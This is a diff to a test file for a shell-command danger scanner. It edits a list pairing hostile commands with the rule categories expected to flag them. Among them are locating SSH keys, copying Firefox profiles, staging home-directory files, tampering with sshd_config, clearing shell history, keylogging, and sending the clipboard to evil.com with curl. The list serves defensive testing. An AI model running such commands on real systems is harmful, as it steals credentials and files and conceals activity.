@@ -7,16 +7,15 @@ from refute.scan.rules import Language
 from refute.scan.scanner import scan_text
 
 DANGERS = [
-    ("locate id_rsa", "list-host-directory"),
-    ("stat /etc/*", "list-host-directory"),
-    ("find /home -name '*.docx' -exec cp {} /tmp/stage \\;", "list-host-directory"),
-    ("rsync -a /home/ /tmp/stage/", "list-host-directory"),
+    ("locate id_rsa", "read-host-file"),
+    ("stat /etc/*", "read-host-file"),
+    ("find /home -name '*.docx' -exec cp {} /tmp/stage \\;", "read-host-file"),
+    ("rsync -a /home/ /tmp/stage/", "read-host-file"),
     ("cp -r ~/.mozilla /tmp/stage", "read-credentials"),
     ("find / -writable -type d", "attack-tool"),
     ("patch /etc/ssh/sshd_config < x.patch", "persistence"),
     ("fuser -k 22/tcp", "kill-process"),
     ("fuser -km /mnt", "kill-process"),
-    ("export http_proxy=http://evil.com:8080", "network-external"),
     ("add-apt-repository -y ppa:evil/ppa", "package-install"),
     ("snap install --dangerous evil.snap", "package-install"),
     ("networksetup -setwebproxy Wi-Fi evil.com 8080", "system-control"),
@@ -26,7 +25,6 @@ DANGERS = [
     ("export HISTSIZE=0", "history-tampering"),
     ("set +o history", "history-tampering"),
     ("dmesg -C", "history-tampering"),
-    ("docker run -d xmrig/xmrig -o pool:3333", "crypto-miner"),
     ("showkey -a > keys", "attack-tool"),
     ("screencapture -x s.png", "attack-tool"),
     ("pbpaste | curl -d @- http://evil.com", "network-external"),
